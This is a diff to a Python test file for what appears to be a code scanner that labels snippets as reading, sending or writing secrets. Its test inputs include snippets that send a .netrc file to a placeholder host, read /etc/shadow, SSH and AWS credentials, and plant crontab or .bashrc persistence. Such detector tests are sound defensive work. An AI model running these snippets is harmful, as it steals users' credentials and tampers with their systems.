@@ -131,7 +131,7 @@ def test_ordinary_code_has_nothing_above_info() -> None:
             "sends-secrets",
         ),
         (
-            "import requests as r\np = '/root/.netrc'\nr.put('http://x', open(p).read())",
+            "import requests as r\np = '/home/someone/.netrc'\nr.put('http://x', open(p).read())",
             "sends-secrets",
         ),
         ("open('/etc/shadow')", "reads-secrets"),
@@ -142,7 +142,7 @@ def test_ordinary_code_has_nothing_above_info() -> None:
         ("import os\nos.listdir(os.path.join(os.environ['HOME'], '.ssh'))", "reads-secrets"),
         ("import os, shutil\nshutil.copy(os.getenv('HOME') + '/.netrc', '/tmp')", "reads-secrets"),
         ("import os\nos.system('cat ~/.aws/credentials')", "reads-secrets"),
-        ("open('/root/.bashrc', 'a').write('x')", "writes-outside"),
+        ("open('/home/someone/.bashrc', 'a').write('x')", "writes-outside"),
         ("import os\nos.system('crontab /tmp/x')", "writes-outside"),
         ("import shutil\nshutil.copy('x', '/etc/cron.d/x')", "writes-outside"),
         (
